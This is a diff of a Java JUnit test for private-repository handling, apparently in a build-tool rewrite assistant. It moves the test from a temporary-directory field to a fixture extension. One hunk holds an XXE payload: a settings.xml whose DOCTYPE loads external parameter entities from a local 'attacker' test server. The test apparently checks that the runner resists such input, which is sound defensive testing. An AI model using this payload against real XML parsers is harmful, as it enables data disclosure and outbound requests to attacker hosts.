@@ -16,7 +16,7 @@ import java.util.jar.JarOutputStream;
 import java.util.jar.Manifest;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
-import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.api.extension.RegisterExtension;
 import rewriteassist.runner.Fixture;
 import rewriteassist.runner.RepositoryServer;
 
@@ -32,17 +32,15 @@ class PrivateRepositoryTest {
     private static final String USER = "deployer";
     private static final String PASSWORD = "s3cret-" + Long.toHexString(System.nanoTime());
 
-    @TempDir
-    Path dir;
+    @RegisterExtension
+    final Fixture fixture = Fixture.in("work");
 
-    private Fixture fixture;
     private Path localRepository;
 
     @BeforeEach
     void fixture() throws Exception {
-        fixture = new Fixture(dir.resolve("work"));
-        Files.createDirectories(fixture.dir);
-        localRepository = dir.resolve("repository");
+        Files.createDirectories(fixture.dir());
+        localRepository = fixture.root().resolve("repository");
         Files.createDirectories(localRepository);
     }
 
@@ -85,7 +83,7 @@ class PrivateRepositoryTest {
     }
 
     private Path settings(String body) throws Exception {
-        Path file = dir.resolve("settings.xml");
+        Path file = fixture.root().resolve("settings.xml");
         Files.writeString(file, "<settings>\n" + body + "</settings>\n");
         return file;
     }
@@ -117,7 +115,7 @@ class PrivateRepositoryTest {
      */
     private JsonNode parseInProcess(ObjectNode request, Map<String, String> environment) throws Exception {
         Path requestFile = fixture.write(request);
-        Path log = dir.resolve("runner-" + request.get("id").asText() + ".log");
+        Path log = fixture.root().resolve("runner-" + request.get("id").asText() + ".log");
         Process runner = Fixture.startRunner(log, environment, requestFile.toString());
         assertTrue(runner.waitFor(120, TimeUnit.SECONDS), "the runner did not finish");
         assertEquals(0, runner.exitValue(), Files.readString(log));
@@ -175,7 +173,8 @@ class PrivateRepositoryTest {
             String first = results.path("warnings").get(0).asText();
             assertTrue(
                     first.contains("repository `private`")
-                            && first.contains("add a <server> with id `private` to " + dir.resolve("settings.xml")),
+                            && first.contains("add a <server> with id `private` to "
+                                    + fixture.root().resolve("settings.xml")),
                     results.path("warnings").toString());
         }
     }
@@ -312,7 +311,7 @@ class PrivateRepositoryTest {
                 RepositoryServer repository = privateRepository("doctype")) {
             attacker.serve("/e.dtd", "<!ENTITY % p SYSTEM \"" + attacker.url() + "x\">\n%p;\n");
             Path root = project("doctype", declares(repository));
-            Path settings = dir.resolve("settings.xml");
+            Path settings = fixture.root().resolve("settings.xml");
             Files.writeString(
                     settings,
                     "<?xml version=\"1.0\"?>\n<!DOCTYPE settings [<!ENTITY % d SYSTEM \"" + attacker.url()
